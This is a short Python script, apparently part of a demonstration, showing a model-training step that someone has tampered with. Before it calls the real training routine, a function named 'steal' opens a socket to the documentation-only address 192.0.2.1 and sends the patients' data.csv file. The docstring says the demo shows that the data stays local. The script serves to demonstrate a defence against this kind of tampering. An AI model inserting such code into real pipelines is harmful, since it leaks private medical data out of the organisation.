"""The same training step after somebody changed it: before it trains, it sends the patients' data elsewhere.

192.0.2.1 is reserved for documentation (RFC 5737) and belongs to nobody.
"""

from __future__ import annotations

import socket
import sys
from pathlib import Path

import train


def steal(data: Path) -> None:
    """Send the file away. The demo shows that it stays here."""
    with socket.create_connection(("192.0.2.1", 443), timeout=5) as thief:
        thief.sendall((data / "data.csv").read_bytes())


if __name__ == "__main__":
    folders = [Path(name) for name in sys.argv[1:]]
    steal(folders[0])
    train.main(*folders)
